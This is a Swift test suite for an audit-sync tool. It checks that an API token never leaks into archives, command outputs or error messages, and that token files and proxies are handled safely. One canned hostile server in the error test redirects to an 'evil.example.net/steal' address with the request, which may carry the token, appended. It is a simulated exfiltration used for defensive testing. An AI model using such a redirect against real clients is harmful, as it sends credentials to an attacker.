import Foundation
import Testing

/// The API token is an admin credential: whichever way it is given, it must appear in no archived
/// byte, no output format of any command, and no error message, even when the server echoes it back.
@Suite("the token never leaks: archive, outputs, errors")
struct TokenSecrecyTests {
    /// Distinctive, so that a match can only be a leak.
    static let secret = "tok-e2e-SECRET-3c9a71f04d2b8e66"

    static func writeTokenFile(_ path: String, mode: mode_t, content: String = secret + "\n") throws {
        FileManager.default.createFile(atPath: path, contents: Data(content.utf8))
        chmod(path, mode)
    }

    /// Every file in `folder` (archive, WAL, shared memory, lock, outputs) that holds the secret.
    static func filesHoldingSecret(in folder: String) -> [String] {
        let needle = Data(secret.utf8)
        let enumerator = FileManager.default.enumerator(atPath: folder)
        var hits: [String] = []
        while let name = enumerator?.nextObject() as? String {
            let path = folder + "/" + name
            if let data = FileManager.default.contents(atPath: path), data.range(of: needle) != nil { hits.append(name) }
        }
        return hits
    }

    @Test("sync via CLOUDRON_TOKEN, --token-file, --token and ?access_token=: the archive and every output hold no token")
    func noTokenAnywhere() async throws {
        let simulator = try await FakeCloudronProcess(["--seed", "51", "--events", "300", "--readonly-token", Self.secret])
        let url = simulator.url
        let folder = try ScratchFolder()
        defer { folder.remove() }
        let db = folder.file("audit.db")
        let tokenFile = folder.file("token")
        try Self.writeTokenFile(tokenFile, mode: 0o600)
        var seen: [CommandResult] = []

        let viaEnvironment = try await Command(["sync", "--url", url, "--db", db, "--task-logs"],
                                         environment: ["CLOUDRON_TOKEN": Self.secret]).run()
        #expect(viaEnvironment.status == 0, "stderr: \(viaEnvironment.stderr)")
        let viaFile = try await Command(["sync", "--url", url, "--db", db, "--token-file", tokenFile]).run()
        #expect(viaFile.status == 0, "stderr: \(viaFile.stderr)")
        let viaFlag = try await Command(["sync", "--url", url, "--db", db, "--token", Self.secret]).run()
        #expect(viaFlag.status == 0, "stderr: \(viaFlag.stderr)")
        #expect(viaFlag.errorLines.count == 1 && viaFlag.stderr.contains("ps"),
                "--token must warn once that 'ps' shows it: \(viaFlag.stderr)")
        #expect(!viaEnvironment.stderr.contains("warning") && !viaFile.stderr.contains("warning"))
        let viaQuery = try await Command(["sync", "--url", url, "--db", db, "--token-in-query", "--instance", "query"],
                                   environment: ["CLOUDRON_TOKEN": Self.secret]).run()
        #expect(viaQuery.status == 0, "stderr: \(viaQuery.stderr)")
        seen += [viaEnvironment, viaFile, viaFlag, viaQuery]
        await simulator.stop()

        // Every reading command in every format, onto stdout and into files next to the archive.
        let formats = ["table", "csv", "json", "ndjson"]
        let readers: [[String]] = [
            ["events"], ["events", "--history"], ["search", "login"], ["search", "--in", "events,notifications,tasks", "app"],
            ["notifications"], ["tasks"], ["report", "logins"], ["report", "logins", "--summary"], ["report", "failed-tasks"],
        ]
        for reader in readers {
            for format in formats {
                let result = try await Command(reader + ["--db", db, "--format", format]).run()
                #expect(result.status == 0, "\(reader) \(format): \(result.stderr)")
                seen.append(result)
            }
            let name = reader.joined(separator: "-")
            #expect(try await Command(reader + ["--db", db, "--format", "json", "--output", folder.file("\(name).json")]).run().status == 0)
        }
        for extra in [["status"], ["status", "--format", "json"], ["verify"], ["report", "--list"]] {
            let result = try await Command(extra + ["--db", db]).run()
            #expect(result.status == 0, "\(extra): \(result.stderr)")
            seen.append(result)
        }
        let all = try await Command(["report", "--all", "--db", db, "--output-dir", folder.file("reports"), "--formats", "csv,json"]).run()
        #expect(all.status == 0, "report --all: \(all.stderr)")
        seen.append(all)

        for result in seen {
            #expect(!result.stdout.contains(Self.secret) && !result.stderr.contains(Self.secret), "token printed")
        }
        #expect(Self.filesHoldingSecret(in: folder.path) == ["token"], "files holding the token")
        // The check above must be able to fail: the archive does hold data read with the token.
        #expect(try SyncCrashTests.archivedEvents(db).count == 300)
    }

    @Test("error messages never show the token, even when the server echoes it back")
    func errorsHideToken() async throws {
        let folder = try ScratchFolder()
        defer { folder.remove() }
        let db = folder.file("audit.db")
        let echo = try CannedServer(answer: { head in
            // Whatever came in (header or query), send it back in the message and a redirect.
            let line = head.split(separator: "\r\n").first.map(String.init) ?? ""
            if line.contains("notifications") {
                return .http("302 Found", headers: ["Location: https://evil.example.net/steal?\(line)"], body: "")
            }
            return .json(#"{"status":"Forbidden","message":"you sent \#(head.replacingOccurrences(of: "\r\n", with: " | ").replacingOccurrences(of: "\"", with: "'"))"}"#,
                         status: "403 Forbidden")
        })
        defer { echo.stop() }
        let html = try CannedServer(always: .http("500 Internal Server Error", headers: ["Content-Type: text/plain"],
                                                  body: "crashed handling Bearer \(Self.secret)"))
        defer { html.stop() }
        let simulator = try await FakeCloudronProcess(["--seed", "52", "--events", "20"])
        let url = simulator.url

        var results: [CommandResult] = []
        for extra in [[], ["--token-in-query"], ["--streams", "notifications"], ["--streams", "notifications", "--token-in-query"]] {
            results.append(try await Command(["sync", "--url", echo.url, "--db", db] + extra,
                                       environment: ["CLOUDRON_TOKEN": Self.secret]).run())
        }
        results.append(try await Command(["sync", "--url", html.url, "--db", db, "--streams", "tasks"],
                                   environment: ["CLOUDRON_TOKEN": Self.secret]).run())
        // 401: the simulator knows other tokens.
        results.append(try await Command(["sync", "--url", url, "--db", db], environment: ["CLOUDRON_TOKEN": Self.secret]).run())
        results.append(try await Command(["sync", "--url", url, "--db", db, "--token-in-query"],
                                   environment: ["CLOUDRON_TOKEN": Self.secret]).run())
        await simulator.stop()

        #expect(echo.requests.contains { $0.contains(Self.secret) }, "the echo server never saw the token: test proves nothing")
        for result in results {
            #expect(result.status != 0)
            expectOneErrorLine(result, naming: [])
            #expect(!result.stderr.contains(Self.secret) && !result.stdout.contains(Self.secret),
                    "token in: \(result.stderr)")
        }
        #expect(Self.filesHoldingSecret(in: folder.path).isEmpty, "files holding the token (e.g. sync_runs.errors)")
    }

    @Test("a token file that group or others can read is refused (78, naming chmod 600); mode 600 works", arguments: [0o644, 0o640, 0o604])
    func tokenFilePermissions(mode: Int) async throws {
        let folder = try ScratchFolder()
        defer { folder.remove() }
        let tokenFile = folder.file("token")
        try Self.writeTokenFile(tokenFile, mode: mode_t(mode))
        let port = try CannedServer.closedPort()
        let result = try await Command(["sync", "--url", "http://127.0.0.1:\(port)", "--db", folder.file("a.db"),
                                  "--token-file", tokenFile]).run()
        expectFailure(result, exit: 78, naming: ["chmod 600", tokenFile])
        #expect(!result.stderr.contains(Self.secret))
        #expect(!FileManager.default.fileExists(atPath: folder.file("a.db")), "an archive was created before the refusal")
    }

    @Test("a missing or empty token file: one line naming the file")
    func badTokenFiles() async throws {
        let folder = try ScratchFolder()
        defer { folder.remove() }
        let port = try CannedServer.closedPort()
        let missing = try await Command(["sync", "--url", "http://127.0.0.1:\(port)", "--db", folder.file("a.db"),
                                   "--token-file", folder.file("nope")]).run()
        expectFailure(missing, exit: 78, naming: [folder.file("nope")])
        try Self.writeTokenFile(folder.file("empty"), mode: 0o600, content: "\n")
        let empty = try await Command(["sync", "--url", "http://127.0.0.1:\(port)", "--db", folder.file("a.db"),
                                 "--token-file", folder.file("empty")]).run()
        expectOneErrorLine(empty, naming: ["empty"])
        #expect([64, 78].contains(empty.status))
    }

    @Test("a proxy in the environment (http_proxy, https_proxy, ALL_PROXY) never sees loopback traffic or the token",
          arguments: [[:], ["no_proxy": "intranet.example"], ["NO_PROXY": "*.example, 10.0.0.0/8"]])
    func loopbackBypassesProxy(_ noProxy: [String: String]) async throws {
        // A listening "proxy" that would answer anything: a proxied sync would run and archive nothing.
        let proxy = try CannedServer(always: .json(#"{"eventlogs":[],"notifications":[],"tasks":[]}"#))
        defer { proxy.stop() }
        let simulator = try await FakeCloudronProcess(["--seed", "53", "--events", "120", "--readonly-token", Self.secret])
        let folder = try ScratchFolder()
        defer { folder.remove() }
        var environment = ["CLOUDRON_TOKEN": Self.secret]
        for name in ["http_proxy", "https_proxy", "ALL_PROXY", "all_proxy"] { environment[name] = proxy.url }
        environment.merge(noProxy) { _, new in new }

        let db = folder.file("audit.db")
        for url in [simulator.url, simulator.url.replacingOccurrences(of: "127.0.0.1", with: "localhost")] {
            let sync = try await Command(["sync", "--url", url, "--db", db, "--instance", "local", "--moved", "--quiet"],
                                         environment: environment).run()
            #expect(sync.status == 0, "\(url): \(sync.stderr)")
        }
        #expect(proxy.requests.isEmpty, "the proxy was sent: \(proxy.requests)")
        #expect(try SyncCrashTests.archivedEvents(db) == (try await simulator.currentEvents()))
        await simulator.stop()
    }
}
